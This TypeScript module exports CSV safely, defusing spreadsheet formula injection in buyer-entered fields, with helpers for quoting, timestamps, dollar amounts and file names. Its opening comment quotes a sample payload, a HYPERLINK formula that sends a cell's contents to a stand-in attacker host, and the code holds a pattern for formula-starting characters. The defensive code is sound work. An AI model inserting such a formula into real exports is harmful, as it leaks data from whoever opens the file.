/**
 * CSV as RFC 4180 writes it, made safe to open in a spreadsheet: buyers type their own names and
 * addresses, and a cell such as `=HYPERLINK("http://evil.example/?"&A1, "Click")` would otherwise
 * run as a formula in Excel, LibreOffice or Google Sheets when an admin opens the export.
 */

export type CsvCell = string | number | boolean | null | undefined;

/** Spreadsheets read a cell starting with one of these as a formula (OWASP's list: =, +, -, @, tab, carriage return). */
const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * A signed number or phone number ('+1 217 555 0100', '-8.98', '+44 (0)20 7946 0958'): digits and
 * the signs that write them, nothing a formula could call or reference.
 */
const SIGNED_NUMBER = /^[+-][\d ().\/-]*\d[\d ().\/-]*$/;
/** A field holding one of these must be quoted (RFC 4180, section 2). */
const NEEDS_QUOTES = /[",\r\n]/;

export interface CsvOptions {
  /**
   * Leave signed numbers and phone numbers as typed, where a leading quote would show in the cell
   * (issue 28: phones came out as '+1 217…): for exports people read (orders, customers). Off for
   * the catalogue's export, which its import reads back and whose reader refuses such a cell
   * unquoted (catalogue-csv-format.ts literalCell).
   */
  signedNumbersAsTyped?: boolean;
}

/** The exports people read in a spreadsheet and never import again. */
export const READ_BY_PEOPLE: CsvOptions = { signedNumbersAsTyped: true };

/** One cell: empty for null, a leading quote before what would start a formula, quoted when needed. */
export function csvCell(value: CsvCell, options: CsvOptions = {}): string {
  if (value === null || value === undefined) return '';
  let text = String(value);
  if (FORMULA_START.test(text) && !(options.signedNumbersAsTyped && SIGNED_NUMBER.test(text))) text = `'${text}`;
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One record, ended by CRLF as RFC 4180 has it. */
export const csvRow = (cells: readonly CsvCell[], options: CsvOptions = {}) => `${cells.map((cell) => csvCell(cell, options)).join(',')}\r\n`;

/**
 * The byte order mark starts the file so that Excel reads it as UTF-8 (it ignores the charset of
 * the download); other readers, and Excel's own save, skip it.
 */
export const CSV_BOM = '\uFEFF';

/** A time as the exports write it: ISO 8601 in UTC, empty when there is none. */
export const csvTime = (time: Date | null) => (time ? time.toISOString() : null);

/** Whole cents as dollars with two decimals, exactly ('1234.50'), never through a float. */
export function csvDollars(cents: number): string {
  const sign = cents < 0 ? '-' : '';
  const whole = Math.abs(cents);
  return `${sign}${Math.trunc(whole / 100)}.${String(whole % 100).padStart(2, '0')}`;
}

/** `orders-2026-11-25.csv`: the export's name and the day (UTC) it was made. */
export const csvFileName = (what: string, now = new Date()) => `${what}-${now.toISOString().slice(0, 10)}.csv`;
